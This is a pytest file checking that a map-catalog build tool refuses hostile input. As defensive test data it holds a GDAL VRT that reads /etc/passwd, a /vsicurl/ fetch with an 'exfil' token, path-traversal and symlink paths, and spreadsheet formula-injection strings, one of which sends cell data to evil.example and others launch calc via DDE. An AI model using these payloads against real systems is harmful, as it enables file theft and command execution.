"""Hostile and odd input from the attack report (cases A, B1-B12, D, E): refused clearly or carried safely.

Grouped by root cause; each test names the report's cases it covers. Output-folder cases are in
test_outputs.py.
"""

from __future__ import annotations

import http.server
import json
import shutil
import threading
from pathlib import Path

import pytest
from conftest import MINI, run_cli

LINE = {"type": "Feature", "properties": {"label": "a line"},
        "geometry": {"type": "LineString", "coordinates": [[50, 42], [52, 44]]}}


def _catalog(tmp_path: Path) -> Path:
    catalog = tmp_path / "cat"
    shutil.copytree(MINI, catalog)
    return catalog


def _context(catalog: Path, path: str, tooltip: str = "label", extra: str = "") -> None:
    (catalog / "context.yaml").write_text(
        f"- id: extra\n  name: Extra lines\n  path: {path}\n  maps: [index]\n  tooltip: {tooltip}\n"
        f"  attribution: test\n{extra}", encoding="utf-8")


def _geojson(path: Path, features: list[dict], crs: str | None = None) -> None:
    collection: dict = {"type": "FeatureCollection", "features": features}
    if crs:
        collection["crs"] = {"type": "name", "properties": {"name": crs}}
    path.write_text(json.dumps(collection), encoding="utf-8")


def _build(catalog: Path, out: Path) -> tuple[int, str]:
    result = run_cli("--catalog", str(catalog), "build", "--layers", str(out / "layers"), "--maps", str(out / "maps"))
    return result.returncode, result.stderr


def _validate(catalog: Path) -> tuple[int, str]:
    result = run_cli("--catalog", str(catalog), "validate")
    return result.returncode, result.stdout + result.stderr


# 1. Context files open only what the catalog folder holds, with the driver the suffix names


@pytest.mark.parametrize("how", ["absolute", "parent", "symlink"])
def test_context_paths_outside_the_catalog_are_refused(tmp_path: Path, how: str) -> None:
    """B1-B3: an absolute path, ../ and a symlink to a file outside the catalog folder."""
    catalog = _catalog(tmp_path)
    outside = tmp_path / "outside" / "private.geojson"
    outside.parent.mkdir()
    _geojson(outside, [LINE | {"properties": {"label": "SECRET-OUTSIDE"}}])
    if how == "symlink":
        (catalog / "link.geojson").symlink_to(outside)
    path = {"absolute": str(outside), "parent": "../outside/private.geojson", "symlink": "link.geojson"}[how]
    _context(catalog, path)
    for status, err in (_validate(catalog), _build(catalog, tmp_path / "out")):
        assert status == 2 and "entry 'extra', field 'path'" in err and "is outside the catalog folder" in err, err
    assert not (tmp_path / "out").exists()


VRT_LEAK = """<OGRVRTDataSource><OGRVRTLayer name="leak"><SrcDataSource>CSV:/etc/passwd</SrcDataSource>
<SrcSQL>SELECT field_1 AS label, CAST('LINESTRING(50 42,52 44)' AS geometry) FROM passwd</SrcSQL>
<LayerSRS>EPSG:4326</LayerSRS></OGRVRTLayer></OGRVRTDataSource>"""


def test_a_vrt_named_geojson_reads_nothing(tmp_path: Path) -> None:
    """B5: a GDAL VRT disguised as .geojson never opens the file it points at."""
    catalog = _catalog(tmp_path)
    (catalog / "rail.geojson").write_text(VRT_LEAK, encoding="utf-8")
    _context(catalog, "rail.geojson")
    for status, err in (_validate(catalog), _build(catalog, tmp_path / "out")):
        assert status == 2 and "rail.geojson is not a GeoJSON file inside" in err, err
    assert not (tmp_path / "out").exists()


def test_a_vrt_never_makes_the_build_fetch(tmp_path: Path) -> None:
    """B6: a VRT pointing at /vsicurl/ is refused before GDAL opens it: the server sees no request."""
    requests: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the http.server interface
            requests.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_GET  # noqa: N815

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        catalog = _catalog(tmp_path)
        url = f"/vsicurl/http://127.0.0.1:{server.server_port}/remote.geojson?token=exfil"
        for name, suffix in (("remote.geojson", ""), ("remote.gpkg", ""), ("remote.fgb", "")):
            (catalog / name).write_text(f"<OGRVRTDataSource><OGRVRTLayer name='r'><SrcDataSource>{url}</SrcDataSource>"
                                        f"</OGRVRTLayer></OGRVRTDataSource>{suffix}", encoding="utf-8")
            _context(catalog, name)
            status, err = _build(catalog, tmp_path / "out")
            assert status == 2 and "is not a" in err, err
    finally:
        server.shutdown()
    assert requests == []


@pytest.mark.parametrize(("extra", "tooltip", "content", "message"), [
    ("  layer: nosuchlayer\n", "label", None, "field 'layer': cannot read"),
    ("", "nosuchattr", None, "field 'tooltip': extra.geojson has no attribute 'nosuchattr'"),
    ("", "label", "[" * 100_000 + "]" * 100_000, "extra.geojson is not a GeoJSON file inside"),
    ("", "label", '{"type": "FeatureCollection", "features": [' + "[" * 100_000, "field 'path': cannot read"),
    ("", "label", "utm", "has coordinates outside ±180°/±90° (500000"),
])
def test_validate_opens_context_files(tmp_path: Path, extra: str, tooltip: str, content: str | None, message: str) -> None:
    """B9, B11: validate reports what the build would find: a missing layer or attribute, junk, metres taken for degrees."""
    catalog = _catalog(tmp_path)
    if content == "utm":  # UTM metres with no crs member (GeoJSON then means WGS84 degrees)
        _geojson(catalog / "extra.geojson", [LINE | {"geometry": {"type": "LineString",
                                                                 "coordinates": [[500000.0, 4760814.8], [510000, 4770000]]}}])
    elif content is None:
        _geojson(catalog / "extra.geojson", [LINE])
    else:
        (catalog / "extra.geojson").write_text(content, encoding="utf-8")
    _context(catalog, "extra.geojson", tooltip, extra)
    status, err = _validate(catalog)
    assert status == 2 and message in err, err
    assert _build(catalog, tmp_path / "out")[0] == 2


@pytest.mark.parametrize("geometry", [
    {"type": "LineString", "coordinates": [[10, 0], [11, 1]]},
    {"type": "Point", "coordinates": [51, 43]},
    {"type": "Polygon", "coordinates": [[[50, 42], [52, 42], [52, 44], [50, 42]]]},
], ids=["far-away", "points-only", "polygons-only"])
def test_a_context_layer_with_no_line_near_a_map_builds(tmp_path: Path, geometry: dict) -> None:
    """B12: nothing of the layer near the view draws nothing, and the build goes on."""
    catalog = _catalog(tmp_path)
    _geojson(catalog / "extra.geojson", [LINE | {"geometry": geometry}])
    _context(catalog, "extra.geojson")
    status, err = _build(catalog, tmp_path / "out")
    assert status == 0, err
    page = (tmp_path / "out" / "maps" / "index.html").read_text(encoding="utf-8")
    assert '"id":"extra","world"' in page and '"lines":""' in page


# 4. Values YAML 1.1 would change silently, and input that used to crash the build


def _edit(catalog: Path, file: str, find: str, replace: str) -> None:
    path = catalog / file
    text = path.read_text(encoding="utf-8")
    assert find in text
    path.write_text(text.replace(find, replace, 1), encoding="utf-8")


def _feature(out: Path, layer: str, entry_id: str) -> dict:
    collection = json.loads((out / "layers" / f"{layer}.geojson").read_text(encoding="utf-8"))
    return next(f for f in collection["features"] if f["id"] == entry_id)


def test_numbers_follow_yaml_1_2(tmp_path: Path) -> None:
    """D22, D6: 0710 is 710 (not octal 456); 1.5e6 is a number (YAML 1.1 read it as text)."""
    catalog = _catalog(tmp_path)
    _edit(catalog, "routes.yaml", "official_length_km: 400", "official_length_km: 0710")
    _edit(catalog, "hubs.yaml", "value: 1000,", "value: 1.5e6,")
    status, err = _build(catalog, tmp_path / "out")
    assert status == 0, err
    assert _feature(tmp_path / "out", "routes", "beyneu-aktau")["properties"]["official_length_km"] == 710
    assert "Test capacity: 1500000 TEU per year" in _feature(tmp_path / "out", "hubs", "aktau")["properties"]["figures"]


def test_template_tokens_in_text_are_only_text(tmp_path: Path) -> None:
    """A4: a name holding the page's own placeholders is shown as written."""
    catalog = _catalog(tmp_path)
    _edit(catalog, "corridors.yaml", "name: Test corridor", "name: Test corridor /*cm:data*/ /*cm:runtime*/")
    status, err = _build(catalog, tmp_path / "out")
    assert status == 0, err
    page = (tmp_path / "out" / "maps" / "test-corridor.html").read_text(encoding="utf-8")
    assert "<title>Test corridor /*cm:data*/ /*cm:runtime*/ – " in page


def test_a_route_from_pole_to_pole_along_180_builds(tmp_path: Path) -> None:
    """D2: -180 and 180 are one meridian; the line runs along it and is split there, not divided by zero."""
    catalog = _catalog(tmp_path)
    _edit(catalog, "routes.yaml", "via: [baku, tbilisi]", "via: [{name: S, lat: -89, lon: -180, location_source: x}, "
          "{name: N, lat: 89, lon: 180, location_source: x}]")
    _edit(catalog, "routes.yaml", "status: planned\n", "status: planned\n  official_length_km: 19800\n  "
          "official_length_source: test-source\n")
    status, err = _build(catalog, tmp_path / "out")
    assert status == 0, err
    route = _feature(tmp_path / "out", "routes", "baku-tbilisi")
    assert 19_700 < route["properties"]["length_km"] < 19_800


# 5. Text the formats cannot carry


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    """A9: =, +, -, @ at the start of a text cell get an apostrophe in CSV; GeoJSON keeps the text."""
    catalog = _catalog(tmp_path)
    _edit(catalog, "hubs.yaml", "name: Baku", 'name: "=HYPERLINK(\\"https://evil.example/?x=\\"&A2,\\"Baku\\")"')
    _edit(catalog, "hubs.yaml", "aliases: [Bakı]", "aliases: [\"@SUM(1+1)*cmd|' /C calc'!A0\"]")
    _edit(catalog, "hubs.yaml", "description: Caspian port.", "description: +1+2")
    _edit(catalog, "routes.yaml", "description: Test road leg.", "description: -2+3+cmd|' /C calc'!A0")
    result = run_cli("--catalog", str(catalog), "export", "--format", "csv", "--out", str(tmp_path / "csv"))
    assert result.returncode == 0, result.stderr
    cells = [cell for name in ("hubs", "routes") for row in
             __import__("csv").reader((tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8")) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A2,\"Baku\")" in cells and "'+1+2" in cells
    status, err = _build(catalog, tmp_path / "out")
    assert _feature(tmp_path / "out", "hubs", "baku")["properties"]["name"].startswith("=HYPERLINK(")


# 6. Limits


def test_problems_listed_are_capped(tmp_path: Path) -> None:
    """E7: a file of a thousand junk entries prints 200 problems and a count of the rest."""
    catalog = _catalog(tmp_path)
    with (catalog / "sources.yaml").open("a", encoding="utf-8") as handle:
        handle.write("- {x: 1}\n" * 1000)
    result = run_cli("--catalog", str(catalog), "validate")
    assert result.returncode == 2
    lines = result.stderr.splitlines()
    assert len(lines) == 202 and lines[-1].strip().startswith("... and ") and "more (fix these first)" in lines[-1]


def test_too_many_maps_are_refused(tmp_path: Path) -> None:
    """E5: more than 500 maps (every one a project) is refused before anything is rendered."""
    catalog = _catalog(tmp_path)
    extra = "".join(f"- {{id: p{i}, name: P{i}, kind: city, country: KAZ, lat: 43.6, lon: 51.2, location_source: x, "
                    f"project: true, status: planned, status_as_of: 2026-01, description: d, sources: [test-source]}}\n"
                    for i in range(500))
    with (catalog / "hubs.yaml").open("a", encoding="utf-8") as handle:
        handle.write(extra)
    status, err = _validate(catalog)
    assert status == 2 and "maps (the overview, corridors and projects); a build makes at most 500" in err, err


def test_a_map_over_the_size_limit_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """E1: a page too big to open is refused with the map's name, and nothing is written."""
    import geo.mapping
    from geo.cli import main

    monkeypatch.setattr(geo.mapping, "MAX_MAP_CHARACTERS", 100_000)
    assert main(["--catalog", str(MINI), "build", "--layers", str(tmp_path / "l"), "--maps", str(tmp_path / "m")]) == 2
    err = capsys.readouterr().err
    assert "maps/index.html: entry 'index': this map would be " in err and "a map may be at most 0.1 MB" in err
    assert not (tmp_path / "l").exists() and not (tmp_path / "m").exists()


def test_a_damaged_geonames_cache_is_rebuilt(tmp_path: Path) -> None:
    """C16: a cache cut off mid-write is not trusted; check answers and writes it again, whole."""
    cache = tmp_path / "cache"
    cache.mkdir()
    (cache / "geonames-lookups.json").write_text('{"names": {}, "ids": {"1": "oops"', encoding="utf-8")
    env = dict(__import__("os").environ, CORRIDORS_CACHE=str(cache))
    result = run_cli("--catalog", str(MINI), "check", env=env)
    assert result.returncode == 0, result.stderr
    assert json.loads((cache / "geonames-lookups.json").read_text(encoding="utf-8"))["ids"]
